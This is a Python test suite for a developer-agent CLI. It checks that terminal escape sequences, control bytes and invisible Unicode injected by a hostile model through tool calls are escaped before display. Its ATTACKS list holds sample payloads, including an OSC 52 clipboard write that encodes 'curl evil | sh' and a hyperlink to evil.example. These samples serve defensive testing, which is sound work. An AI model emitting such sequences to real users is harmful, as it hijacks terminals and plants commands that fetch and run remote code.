"""No byte sequence from outside devagent reaches the terminal unescaped, on any screen.

A hostile model puts control characters, escape sequences (CSI, OSC title, OSC 52 clipboard,
clear scrollback), bidi overrides and zero-width characters into every field it controls: tool
names, every argument, file names and contents, the SQL and its path, command output and its
own messages. The real CLI runs in a pseudo-terminal against the scripted stub server and the
real sandbox; every byte it writes, for every command, may hold rich's own colour codes and
nothing else.
"""

from __future__ import annotations

import ast
import json
import re
import resource
import shlex
from pathlib import Path

import pexpect
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from devagent.display import has_hidden_characters
from llm_stub import tool_call
from terminal_helpers import LEGEND, Terminal, foreign_escapes

pytestmark = pytest.mark.usefixtures("sandbox_image")

ATTACKS = [
    "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "\x1b[3J",  # clear the scrollback
    "\x1b]0;pwned title\x07",  # set the window title
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # write the clipboard (OSC 52)
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # hyperlink
    "\x1b[8m",  # conceal
    "\x1b[1A\x1b[2K",  # up one line, erase it
    "\x9b2J",  # C1 CSI
    "\x9d0;c1 title\x9c",  # C1 OSC ... ST
    "\r", "\b", "\x07", "\x00", "\x7f", "\t", "\x0b", "\x0c",
    "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u2028", "\u061c", "\U000e0041",
]
nasty = st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(alphabet="abc ;|$'\"", max_size=4)),
                 min_size=1, max_size=6).map("".join)
EVERYTHING = "".join(ATTACKS)


def check(name: str, term: Terminal) -> None:
    bad = foreign_escapes(term.output)
    assert not bad, f"{name} wrote {bad} to the terminal:\n{term.output[-2000:]!r}"


def run(home: Path, repo: Path, *args: str, keys: list[str] | None = None) -> Terminal:
    """A command in a pseudo-terminal; `keys` answer the approval screens in turn (then "n")."""
    term = Terminal(home, repo, *args, columns=100)
    answers = list(keys or [])
    try:
        while True:
            index = term.child.expect([LEGEND, r"to approve: ", r"reason \(sent to the model\): ", pexpect.EOF])
            if index == 3:
                break
            term.send(["", "yes-destroy\r", "no\r"][index] or (answers.pop(0) if answers else "n"))
    finally:
        term.close()
    return term


@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@example(text=EVERYTHING)
@given(text=nasty)
def test_no_outside_byte_sequence_reaches_the_terminal_on_any_screen(home: Path, repo: Path, llm, text: str) -> None:
    line = text.replace("\n", " ")
    argument = text.replace("\x00", "")  # a command-line argument cannot hold a NUL byte
    llm.steps.clear()  # the fixtures outlive one example: nothing left over from the last one
    llm.script(
        {"tool_calls": [
            tool_call(f"run_shell{text}", {"command": text}, f"u{text}"),  # a tool that does not exist
            tool_call("write_file", {"path": f"notes{line.replace('/', '')}.txt", "content": text + "\n"}, "w1"),
            tool_call("write_file", {"path": "ok.txt", "content": text + "\n"}, "w2"),
            tool_call("read_file", {"path": text}, "r1"),
            tool_call("search", {"pattern": text, "path": text}, "g1"),
            tool_call("list_files", {"path": text, "pattern": text}, "l1"),
        ]},
        {"tool_calls": [
            tool_call("run_shell", {"command": f"printf '%s\\n' {shlex.quote(text)}", "timeout_s": 30}, "s1"),
            tool_call("run_migration", {"path": f"{text}.sql", "database": text}, "m1"),
            tool_call("run_migration", {"sql": f"CREATE TABLE IF NOT EXISTS t_ok (x int); -- {line}\n"}, "m2"),
            tool_call("run_migration", {"sql": f'SELECT * FROM "{line.replace(chr(34), "")}";'}, "m3"),
        ]},
        {"content": text},
    )
    # --no-input: progress lines, then the paused calls and how to go on.
    started = run(home, repo, "task", argument, "--base-url", llm.url, "--model", "stub", "--no-input")
    check("task --no-input", started)
    if has_hidden_characters(text):  # the attack did reach the screen, as visible tokens
        assert "⟪U+" in started.text() and "● run_shell" in started.text()
    thread = re.search(r"thread ([0-9a-f]{8}) on branch", started.output).group(1)
    for args in (["pending", thread], ["pending"], ["log", thread], ["threads"]):
        check(" ".join(args), run(home, repo, *args))
    # Interactive: the approval screens (with m: raw arguments, d: the diff), the command's output,
    # the model's last message.
    resumed = run(home, repo, "resume", thread, keys=["m", "d", "y", "y", "y", "y"])
    check("resume", resumed)
    assert re.search(rf"thread {thread} done: [0-9]+ command", resumed.text()), resumed.text()[-3000:]
    for args in (["migrations", thread], ["log", thread], ["diff", thread], ["log", argument]):
        check(" ".join(args), run(home, repo, *args))


def test_the_check_itself_tells_rich_styling_from_foreign_sequences() -> None:
    assert foreign_escapes("\x1b[1;31mbold red\x1b[0m\r\n⟪U+001B ESC⟫") == []
    for attack in ("\x1b]0;title\x07", "\x1b[2J", "\x9b2J", "\u202e", "\u200b", "\x07", "\x00"):
        assert foreign_escapes(f"ok {attack} ok"), attack


def test_pending_on_a_huge_sql_file_of_control_bytes_is_quick_and_shows_the_head(home: Path, repo: Path, llm,
                                                                                   cli) -> None:
    # (A file of NUL bytes cannot run at all, so it is refused without a screen; SOH can be shown.)
    size = 200_000
    llm.script({"tool_calls": [tool_call("write_file", {"path": "soh.sql", "content": "\x01" * size}, "w1")]},
               {"tool_calls": [tool_call("run_migration", {"path": "soh.sql"}, "m1")]})
    paused = cli("task", "migrate", "--base-url", llm.url, "--model", "stub", "--no-input")
    assert paused.returncode == 3, paused.stderr
    thread = re.search(r"thread ([0-9a-f]{8})", paused.stderr).group(1)
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    listed = cli("pending", thread)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert listed.returncode == 0, listed.stderr
    # CPU time, not wall time: the machine may be busy. It was 50 s (and 1.5 GB) before.
    cpu = (after.ru_utime + after.ru_stime) - (before.ru_utime + before.ru_stime)
    assert cpu < 20, f"pending used {cpu:.1f}s of CPU"
    assert after.ru_maxrss < 600 * 1024, "a CLI process used over 600 MB"
    for out in (paused.stdout, listed.stdout):
        assert "⟪U+0001 SOH⟫" in out and "more characters are not shown here" in out
        assert len(out) < 1_000_000
    full = __import__("hashlib").sha256(b"\x01" * size).hexdigest()
    assert full[:12] in listed.stdout  # the sha256 of the whole file


# ------------------------------------------------------------------ structure


OWN = Path(__file__).parent.parent / "devagent"


def calls(module: str) -> list[str]:
    tree = ast.parse((OWN / module).read_text())
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            found.append(ast.unparse(node.func))
    return found


@pytest.mark.parametrize("module", ["cli.py", "ui.py", "events.py", "auditlog.py"])
def test_the_cli_and_the_screens_have_no_way_to_print_unescaped_text(module: str) -> None:
    """Output goes only through devagent.term: no print(), no direct writes, no console or plain
    rich Text built outside it."""
    forbidden = {"print", "sys.stdout.write", "sys.stderr.write", "typer.echo", "click.echo", "Console",
                 "Text", "Text.assemble", "Text.from_markup", "Text.from_ansi", "typer.confirm", "typer.prompt",
                 "input"}
    used = [name for name in calls(module) if name in forbidden or name.endswith(".console.print")]
    assert used == [], used


def test_the_screen_refuses_plain_strings_and_unescaped_text() -> None:
    import io

    from rich.console import Console
    from rich.panel import Panel
    from rich.table import Table
    from rich.text import Text

    from devagent.term import Screen, shown

    out = io.StringIO()
    screen = Screen(console=Console(file=out, width=80))
    raw = "\x1b]0;pwned\x07"
    table = Table()
    table.add_column(shown("a"))
    table.add_row(raw)
    for bad in (raw, Text(raw), Panel(raw), Panel(shown("ok"), title=raw), table):
        with pytest.raises(TypeError):
            screen.print(bad)
    with pytest.raises(TypeError):
        shown("ok").append(Text(raw))
    screen.print(Panel(shown(raw), title=shown(raw)), shown("a").append(raw))
    assert "\x1b]" not in out.getvalue() and out.getvalue().count("⟪U+001B ESC⟫]0;pwned⟪U+0007 BEL⟫") == 3


def test_json_output_is_escaped_for_a_terminal_and_reads_back_exactly(capsys: pytest.CaptureFixture[str]) -> None:
    from devagent.term import emit_json

    data = {"command": EVERYTHING, "name": "café"}
    emit_json(data)
    out = capsys.readouterr().out
    assert foreign_escapes(out) == [] and out.isascii()
    assert json.loads(out) == data
